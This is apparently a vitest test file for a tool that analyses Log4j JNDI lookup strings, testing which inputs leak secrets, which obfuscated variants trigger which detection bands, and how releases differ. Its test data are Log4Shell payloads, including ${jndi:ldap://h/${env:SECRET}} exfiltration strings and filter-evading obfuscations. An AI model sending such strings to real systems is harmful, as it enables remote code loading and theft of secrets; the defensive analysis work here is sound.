import { expect, test } from 'vitest'
import { readLog4jVersion } from '../core/index.ts'
import { explain } from './explain.ts'

function explained(text: string, release = '2.14.1', env: Readonly<Record<string, string>> = {}) {
  const version = readLog4jVersion(release)
  if (version === null) throw new Error(`not a release: ${release}`)
  return explain(text, { version, world: { env } })
}

test.each([
  ['a variable in the path', '${jndi:ldap://h/${env:SECRET}}', ['env:SECRET', 'ldap://h/${env:SECRET}']],
  ['a variable in the host', '${jndi:dns://${hostName}.h}', ['hostName', 'dns://${hostName}.h']],
  ['a changed letter case', '${jndi:ldap://h/${lower:${env:SECRET}}}', ['env:SECRET', 'ldap://h/${env:SECRET}']],
  ['a lookup of a module', '${jndi:ldap://h/${k8s:podName}}', ['k8s:podName', 'ldap://h/${k8s:podName}']],
  ['what Java is', '${jndi:ldap://h/${java:os}}', ['java:os', 'ldap://h/${java:os}']],
  ['a default that hides it', '${jndi:ldap://h/${env:SECRET:-none}}', ['env:SECRET', 'ldap://h/${env:SECRET}']],
])('%s is a leak', (_case, text, [read, into]) => {
  expect(explained(text, '2.14.1', { SECRET: 's' }).leaks).toEqual([{ read, into }])
})

test.each([
  ['a variable that only disguises', '${${env:NaN:-j}ndi:ldap://h/a}'],
  ['a variable beside the lookup', '${env:SECRET} ${jndi:ldap://h/a}'],
  ['a name that reaches no one', '${jndi:LDAP://h/${env:SECRET}}'],
  ['no lookup at all', '${env:SECRET}'],
])('%s is no leak', (_case, text) => {
  expect(explained(text, '2.14.1', { SECRET: 's' }).leaks).toEqual([])
})

test('a release that does not evaluate names leaks nothing by them', () => {
  expect(explained('${jndi:ldap://h/${env:SECRET}}', '2.7').leaks).toEqual([])
})

test.each([
  ['${jndi:ldap://h/a}', ['A', 'B', 'C']],
  ['${${::-j}ndi:ldap://h/a}', ['B', 'C']],
  ['${${lower:j}ndi:ldap://h/a}', ['C']],
  ['${jndi:ldap://h/a${x}', ['A']],
  ['${jndi:LDAP://h/a}', []],
  ['$${jndi:ldap://h/a}', []],
  ['${x}$${jndi:ldap://h/a}', ['A', 'B', 'C']],
])('%s fires on %j', (text, bands) => {
  expect(explained(text).firesOn).toEqual(bands)
})

test('a name is told once, with how often it is looked up', () => {
  const { lookups } = explained('${jndi:ldap://h/a}${jndi:rmi://h/b}${jndi:ldap://h/a}')

  expect(lookups.map(({ name, times }) => [name, times])).toEqual([
    ['ldap://h/a', 2],
    ['rmi://h/b', 1],
  ])
})
